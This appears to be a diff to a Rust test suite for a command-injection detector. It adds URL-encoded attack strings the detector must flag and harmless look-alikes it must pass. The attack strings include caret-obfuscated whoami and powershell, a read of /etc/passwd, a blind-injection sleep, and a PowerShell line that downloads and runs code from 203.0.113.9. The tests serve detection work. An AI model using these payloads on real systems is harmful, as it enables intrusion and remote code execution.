@@ -427,6 +427,13 @@ fn command_injection_techniques() {
         "f=rc%20script.sh",
         "x=echo%20%7C%20%24%7Bx%7Dgcc", // a command piped into an expansion
         "search=%2Bdir%2Bc:%22",        // `+` for spaces where the value opened with one
+        "x=echo%20whoami%7C%240",       // a line piped into the shell that runs it
+        "x=who%5Eami",                  // cmd.exe's carets split a word
+        "x=%40%5Ep%5Eo%5Ew%5Ee%5Er%5Eshell%20-nop",
+        "x=backup_name%3B%20ls", // a bare command after an identifier
+        "x=cat%20%24%7BHOME%3A0%3A1%7Detc%24%7BHOME%3A0%3A1%7Dpasswd", // `/` cut from $HOME
+        "host=127.0.0.1%3B%20sleep%2010", // the delay of a blind injection
+        "x=powershell%20IEX(New-Object%20Net.WebClient).DownloadString(%27http://203.0.113.9/a%27)",
     ] {
         assert_attack(query(q), "cmdi");
     }
@@ -493,6 +500,13 @@ fn client_names_and_quoted_words_are_not_commands() {
         "title=Home%20%7C%20%24%7BsiteName%7D", // a template placeholder after a title
         "phone=%2B44%2020%207946%200000",
         "q=sh%20shells.txt",
+        "plan=Basic%20%7C%20%240", // a price after a pipe
+        "f=x%5E2%20%2B%20a%5Et",   // exponents and a transpose
+        "face=%5E_%5E",
+        "re=%5Estart",
+        "cfg=%24%7Bport%3A-8080%7D", // a default, not a substring
+        "q=sleep%208%20hours",
+        "q=sleep%20well",
     ] {
         assert_clean(query(q));
     }
